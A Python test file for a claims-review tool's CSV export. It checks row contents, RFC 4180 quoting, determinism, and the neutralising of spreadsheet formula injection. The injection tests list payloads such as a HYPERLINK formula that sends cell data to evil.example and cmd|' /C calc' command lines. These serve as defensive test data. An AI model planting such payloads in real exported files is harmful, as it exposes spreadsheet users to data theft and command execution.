"""One row a claim, read back by `csv`; no cell that a spreadsheet would run."""

from __future__ import annotations

import csv
import io
from dataclasses import replace
from pathlib import Path

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from claims.export.csv import COLUMNS, cell, export
from claims.export.fields import Lines
from claims.ledger.review import ReviewState
from claims.ledger.store import ClaimStore
from claims.model import Finding, FindingKind
from claims.report import SourceState, SourceStatus
from tests.claims.export.stores import decided_store
from tests.claims.ledger.reports import (
    AT,
    PAGE,
    TEXT,
    URL,
    number_claim,
    quote_claim,
    report,
    snapshot,
    source_states,
    with_finding,
)
from tests.claims.ledger.strategies import any_text


def state(folder: Path) -> ReviewState:
    with decided_store(folder) as store:
        return store.review("bridge.txt")


def rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline=""), strict=True))


def test_a_row_has_the_claim_with_its_finding_and_verdict(tmp_path: Path) -> None:
    quote, number = rows(export([state(tmp_path)]))
    span = quote_claim().span
    words = "The bridge is not safe."
    assert quote == {
        "article": "bridge.txt",
        "claim": quote_claim().id,
        "kind": "quote",
        "line": "3",
        "start": str(span.start),
        "end": str(span.end),
        "text": "The bridge is safe.",
        "speaker": "Ana Brook",
        "value": "",
        "max": "",
        "unit": "",
        "finding": "altered",
        "detail": "negation",
        "reason": "the source says “not”",
        "source": URL,
        "source_url": URL,
        "snapshot": snapshot().sha256,
        "passage": words,
        "passage_start": str(PAGE.index(words)),
        "passage_end": str(PAGE.index(words) + len(words)),
        "fetched_at": "2026-03-04T09:30:00Z",
        "verdict": "disputed",
        "reviewer": "Kim",
        "decided_at": "2026-03-04T09:30:00Z",
        "note": "'=ring(them)",
        "source_warnings": "",
    }
    assert (number["value"], number["unit"], number["claim"]) == ("1400000", "EUR", number_claim().id)
    assert (number["verdict"], number["reviewer"], number["decided_at"], number["note"]) == ("open", "", "", "seen")


def test_a_decided_claim_keeps_the_passage_and_the_copy_that_the_person_saw(tmp_path: Path) -> None:
    with decided_store(tmp_path) as store:
        absent = with_finding(report(), quote_claim(), Finding(FindingKind.ABSENT))
        store.save_report(replace(absent, sources=source_states(PAGE + " Corrected.")), AT)
        quote, number = rows(export([store.review("bridge.txt")]))
    assert (quote["finding"], quote["verdict"], quote["passage"]) == ("absent", "disputed", "The bridge is not safe.")
    assert (quote["snapshot"], quote["fetched_at"]) == (snapshot().sha256, "2026-03-04T09:30:00Z")
    assert number["snapshot"] == snapshot(PAGE + " Corrected.").sha256


def test_a_claim_without_a_passage_says_which_sources_were_not_read(tmp_path: Path) -> None:
    failed = SourceState("http://away.example/", SourceStatus.FAILED, "challenge", "only browsers are let in")
    with ClaimStore.open(tmp_path / "stet.db") as store:
        unchecked = with_finding(report(), quote_claim(), Finding(FindingKind.UNCHECKED))
        store.save_report(replace(unchecked, sources=(*unchecked.sources, failed)), AT)
        quote, number = rows(export([store.review("bridge.txt")]))
    assert "http://away.example/: failed: only browsers are let in" in quote["source_warnings"].split("; ")
    assert number["source_warnings"] == ""


def test_the_form_is_that_of_rfc_4180(tmp_path: Path) -> None:
    first = state(tmp_path)
    text = export([replace(first, name='a "b",\r\nc')])
    assert text.split("\r\n", 1)[0].split(",") == list(COLUMNS)
    assert text.endswith("\r\n")
    assert '"a ""b"",\r\nc"' in text
    assert rows(text)[0]["article"] == 'a "b",\r\nc'


def test_raw_leaves_cells_as_they_are(tmp_path: Path) -> None:
    assert rows(export([state(tmp_path)], raw=True))[0]["note"] == "=ring(them)"


def test_same_store_same_bytes(tmp_path: Path) -> None:
    once = export([state(tmp_path)])
    with ClaimStore.open(tmp_path / "stet.db", readonly=True) as again:
        assert export([again.review("bridge.txt")]).encode() == once.encode()


def test_no_review_gives_the_header_alone() -> None:
    assert export([]) == ",".join(COLUMNS) + "\r\n"


@pytest.mark.parametrize(
    "formula",
    [
        '=HYPERLINK("http://evil.example?x="&A1;"ok")',
        "+1+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1)",
        "\t=1",
        "\r=1",
        "\n=1",
        "  =1",
        "\u00a0=1",
        "\u3000=1",
        "\ufeff=1",
        "\u200b=1",
        "\uff1d1",
        "\uff0b1",
        "\uff0d1",
        "\uff201",
        "'=1",
        "-",
        "--1",
        "-1,",
        "+1 =",
        "- he said",
        "-\u0661",
    ],
)
def test_what_a_spreadsheet_would_run_is_neutralised(formula: str) -> None:
    assert cell(formula) == f"'{formula}"
    assert cell(formula, raw=True) == formula


@pytest.mark.parametrize("harmless", ["-12,99", "+5", "-1.234.567,8", "12", "a=1", "it's =1", "'quoted'", "", "–5 %"])
def test_figures_and_plain_words_stay(harmless: str) -> None:
    assert cell(harmless) == harmless


@given(any_text)
@example("'" * 3 + " =1")
def test_one_apostrophe_undoes_it(text: str) -> None:
    safe = cell(text)
    bare = text.translate(dict.fromkeys([0, *range(0xD800, 0xE000)], "\ufffd"))
    assert safe in (bare, f"'{bare}")
    safe.encode("utf-8")
    # Only what was neutralised begins like this, so that an import can tell.
    assert (safe != bare) == (safe.startswith("'") and cell(safe[1:]) == safe)


@given(st.lists(any_text, min_size=2, max_size=3))
def test_any_text_is_one_cell(texts: list[str]) -> None:
    first = ReviewState("id", texts[0], "en", "sha", TEXT, ())
    assert rows(export([first])) == []
    out = io.StringIO(newline="")
    csv.writer(out, lineterminator="\r\n").writerow([cell(text) for text in texts])
    assert next(csv.reader(io.StringIO(out.getvalue(), newline=""))) == [cell(text) for text in texts]


@given(st.text("a\n\r\u2028", max_size=20), st.data())
def test_lines_are_counted_as_editors_do(text: str, data: st.DataObject) -> None:
    offset = data.draw(st.integers(0, len(text)))
    assert Lines(text).of(offset) == text.count("\n", 0, offset) + 1
